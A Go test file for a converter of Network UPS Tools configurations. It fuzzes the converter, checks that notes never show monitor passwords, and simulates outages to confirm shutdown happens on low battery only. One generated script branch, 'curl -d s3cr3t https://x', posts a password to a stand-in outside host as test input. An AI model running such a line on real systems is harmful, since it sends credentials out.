package convert

import (
	"errors"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"

	"github.com/tls-upsmon/upsmon/engine/compile"
	"github.com/tls-upsmon/upsmon/engine/convert/nutconf"
	"github.com/tls-upsmon/upsmon/engine/simulate"
	"github.com/tls-upsmon/upsmon/grammar"
)

// FuzzConvert: convert never panics, its text parses and is formatted, and no note shows a password.
func FuzzConvert(f *testing.F) {
	for _, dir := range setups(f) {
		in := setup(f, dir)
		var sched, script []byte
		if in.Upssched != nil {
			sched = in.Upssched.Text
		}
		if in.Script != nil {
			script = in.Script.Text
		}
		f.Add(in.Upsmon.Text, sched, script, byte(in.Version.Patch))
	}
	f.Fuzz(func(t *testing.T, upsmon, sched, script []byte, patch byte) {
		in := Input{
			Upsmon: File{"upsmon.conf", upsmon}, Upssched: &File{"upssched.conf", sched}, Script: &File{"script", script},
			Version: nutconf.Version{Major: 2, Minor: 8, Patch: int(patch % 7)},
		}
		r, err := Convert(in)
		if errors.Is(err, ErrNothing) {
			r = Read(in)
		} else if err != nil {
			t.Fatalf("%v\n%q\n%q\n%q", err, upsmon, sched, script)
		} else if tree, diags := grammar.Parse("UPSmon.conf", r.Text); diags.HasErrors() || string(grammar.Format(tree)) != string(r.Text) {
			t.Fatalf("it does not parse, or is not formatted: %v\n%s", diags, r.Text)
		}
		for _, m := range r.Upsmon.Monitors {
			if len(m.Password) < 8 || strings.Count(string(upsmon)+string(sched)+string(script), m.Password) != 1 {
				continue // the password may also be another word of the file
			}
			for _, d := range r.Notes {
				if strings.Contains(d.Message+d.Remedy, m.Password) {
					t.Fatalf("a note shows the password %q: %s", m.Password, d)
				}
			}
		}
	})
}

// TestMixed: random mixtures of idioms become files without errors that shut down on a low battery, and do not on
// mains power.
func TestMixed(t *testing.T) {
	const rounds = 150
	r := rand.New(rand.NewPCG(1, 2))
	pick := func(all ...string) string { return all[r.IntN(len(all))] }
	some := func(p float64, s string) string {
		if r.Float64() < p {
			return s
		}
		return ""
	}
	events := []string{"ONBATT", "ONLINE", "LOWBATT", "COMMBAD", "COMMOK", "FSD", "SHUTDOWN", "REPLBATT", "NOCOMM"}
	for i := range rounds {
		kind := pick("primary", "secondary", "master", "slave")
		mon := "MONITOR " + pick("ups", "3000xl", "EACH") + pick("", "@localhost", "@localhost:3493", "@127.0.0.1") + " 1 upsmon s3cr3t " + kind + "\n" +
			some(0.3, "MONITOR b@localhost "+pick("0", "1")+" upsmon s3cr3t "+kind+"\n") +
			"SHUTDOWNCMD " + pick(`"/sbin/shutdown -h +0"`, `"sync; /sbin/shutdown -h now"`) + "\nNOTIFYCMD /sbin/upssched\n" +
			some(0.7, "POWERDOWNFLAG /etc/killpower\n") + some(0.3, "HOSTSYNC "+pick("0", "5", "30")+"\n") + some(0.3, "FINALDELAY "+pick("0", "2")+"\n") + some(0.3, "RUN_AS_USER root\n")
		for _, e := range events {
			mon += some(0.6, "NOTIFYFLAG "+e+" "+pick("SYSLOG+WALL+EXEC", "EXEC", "SYSLOG+EXEC", "IGNORE", "SYSLOG+EXE")+"\n")
		}
		sched := "CMDSCRIPT /etc/nut/cmd\nPIPEFN /run/p\nLOCKFN /run/l\n"
		for range r.IntN(8) {
			sched += "AT " + pick(events...) + " " + pick("*", "*", "*", "ups@localhost") + " "
			switch name := pick("one", "two", "SHUTDOWN"); r.IntN(4) {
			case 0:
				sched += "EXECUTE " + name + "\n"
			case 1:
				sched += "CANCEL-TIMER" + some(0.2, "-MATCHED") + " " + name + some(0.3, " two") + "\n"
			default:
				sched += "START-TIMER" + some(0.2, "-SHARED") + " " + name + " " + pick("0", "30", "300", "5m") + "\n"
			}
		}
		branch := func() string {
			return pick("/sbin/upsmon -c fsd", "logger -t x \"$UPSNAME\"", "wall hi", "sleep 300; upsmon -c fsd", "curl -d s3cr3t https://x", "if true; then upsmon -c fsd; fi", "sudo reboot", "echo $1 | mail -s x root")
		}
		script := "#!/bin/sh\ncase $1 in\none) " + branch() + "; " + branch() + ";;\n" + some(0.7, "two) "+branch()+";;\n") + some(0.5, "*) "+branch()+";;\n") + "esac\n"
		in := Input{Upsmon: File{"upsmon.conf", []byte(mon)}, Upssched: &File{"upssched.conf", []byte(sched)}, Script: &File{"cmd", []byte(script)},
			Version: nutconf.Versions[r.IntN(len(nutconf.Versions))]}
		res, err := Convert(in)
		if err != nil {
			t.Fatalf("%v\n%s\n%s\n%s", err, mon, sched, script)
		}
		all := func() string { return fmt.Sprintf("%d:\n%s\n%s\n%s\n%s", i, mon, sched, script, res.Text) }
		if p, _, diags := compile.Parse("UPSmon.conf", res.Text, compile.Options{}); p == nil {
			t.Fatalf("%v\n%s", diags, all())
		}
		shutsDown(t, res, all)
	}
}

// TestSetupsShutDown: the converted files of testdata shut down when upsmon does.
func TestSetupsShutDown(t *testing.T) {
	for _, dir := range setups(t) {
		r, err := Convert(setup(t, dir))
		if err != nil || strings.TrimSpace(r.Upsmon.ShutdownCmd) == "" {
			continue
		}
		shutsDown(t, r, func() string { return dir })
	}
}

// shutsDown plays two outages: in one the battery of each UPS runs low, in the other none ever leaves mains power.
// The old files may have timers that nothing cancels, so the only event on mains is a low battery.
func shutsDown(t *testing.T, r *Result, what func() string) {
	t.Helper()
	power := 0
	for _, m := range r.Upsmon.Monitors {
		power += max(0, m.Power)
	}
	if power == 0 || r.Upsmon.MinSupplies == 0 {
		return
	}
	for i, m := range r.Upsmon.Monitors {
		if slices.ContainsFunc(r.Upsmon.Monitors[:i], func(o nutconf.Monitor) bool { return o.UPS == m.UPS }) {
			return // compare can only play units with one name
		}
	}
	var low, mains strings.Builder
	for _, m := range r.Upsmon.Monitors {
		name := grammar.Quoted(m.UPS)
		fmt.Fprintf(&low, "0s %[1]s ups.status OL\n10m %[1]s ups.status OB LB\n", name)
		fmt.Fprintf(&mains, "0s %[1]s ups.status OL\n", name)
	}
	// The secondary waits HOSTSYNC before the UPS is critical, the primary HOSTSYNC for the secondaries, then
	// FINALDELAY, and OBLBDURATION.
	wait := 2*r.Upsmon.HostSync + max(r.Upsmon.FinalDelay, 2) + max(0, r.Upsmon.OBLBDuration)
	unit := ""
	for _, m := range r.Upsmon.Monitors {
		if m.Power > 0 {
			unit = grammar.Quoted(m.UPS)
			break
		}
	}
	play(t, r.Text, fmt.Sprintf("%s10m..%ds expect %s SHUTDOWNCMD\n2h end\n", &low, 600+wait+1, unit), what)
	play(t, r.Text, mains.String()+"0s..2h refuse "+unit+" SHUTDOWNCMD\n2h end\n", what)
}

func play(t *testing.T, text []byte, scenario string, what func() string) {
	t.Helper()
	c, err := simulate.ParseCase("case", fmt.Appendf(nil, "A case.\n-- UPSmon.conf --\n%s-- scenario --\n%s", text, scenario))
	if err != nil {
		t.Fatalf("%v\n%s\n%s", err, scenario, what())
	}
	if o := c.Run(nil); !o.Passed() {
		t.Errorf("%s%s\n%s\n%s", o.Problems(), scenario, o.Trace, what())
	}
}
